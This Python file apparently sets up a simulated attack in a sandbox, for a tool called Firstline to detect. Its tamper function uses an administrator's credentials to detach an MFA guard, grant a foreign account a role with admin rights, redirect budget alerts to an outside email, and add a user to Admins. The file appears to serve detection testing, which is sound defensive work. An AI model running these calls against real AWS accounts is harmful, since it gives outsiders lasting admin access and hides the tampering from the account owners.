"""What somebody does behind Firstline's back, with an administrator's credentials of the account."""

from __future__ import annotations

import json
from typing import Any

from sandbox.client import Sandbox

STRANGER = "444455556666"
ROLE = "NightlyExport"
MEMBER = "eve"
ADDRESS = "mallory@example.net"


def tamper(sandbox: Sandbox, account_id: str) -> list[str]:
    """Five changes, in words. The simulator's log calls their author `tamper`."""
    iam, budgets = sandbox.client("iam", account_id), sandbox.client("budgets", account_id)
    guard = f"arn:aws:iam::{account_id}:policy/MfaGuard"
    iam.detach_group_policy(GroupName="Admins", PolicyArn=guard)
    iam.update_assume_role_policy(RoleName="EC2_S3ReadOnlyAccess", PolicyDocument=json.dumps(_trust(service="ec2")))
    _redirect_alerts(budgets, account_id)
    iam.add_user_to_group(GroupName="Admins", UserName=MEMBER)
    iam.create_role(RoleName=ROLE, AssumeRolePolicyDocument=json.dumps(_trust()))
    iam.attach_role_policy(RoleName=ROLE, PolicyArn="arn:aws:iam::aws:policy/AdministratorAccess")
    return [
        "detaches MfaGuard from the group Admins",
        f"lets account {STRANGER} take the role EC2_S3ReadOnlyAccess as well",
        "has the alerts of the budget s3-monthly sent to somebody else",
        f"adds {MEMBER} to Admins",
        f"makes a role {ROLE} with AdministratorAccess that account {STRANGER} may take",
    ]


def _trust(service: str = "") -> dict[str, Any]:
    principal = {"AWS": f"arn:aws:iam::{STRANGER}:root"} | ({"Service": f"{service}.amazonaws.com"} if service else {})
    allow = {"Effect": "Allow", "Principal": principal, "Action": "sts:AssumeRole"}
    return {"Version": "2012-10-17", "Statement": [allow]}


def _redirect_alerts(budgets: Any, account_id: str) -> None:
    budget = {"AccountId": account_id, "BudgetName": "s3-monthly"}
    (notification,) = budgets.describe_notifications_for_budget(**budget)["Notifications"]
    alert = {key: value for key, value in notification.items() if key != "NotificationState"}
    (subscriber,) = budgets.describe_subscribers_for_notification(**budget, Notification=alert)["Subscribers"]
    stranger = {"SubscriptionType": "EMAIL", "Address": ADDRESS}
    budgets.update_subscriber(**budget, Notification=alert, OldSubscriber=subscriber, NewSubscriber=stranger)
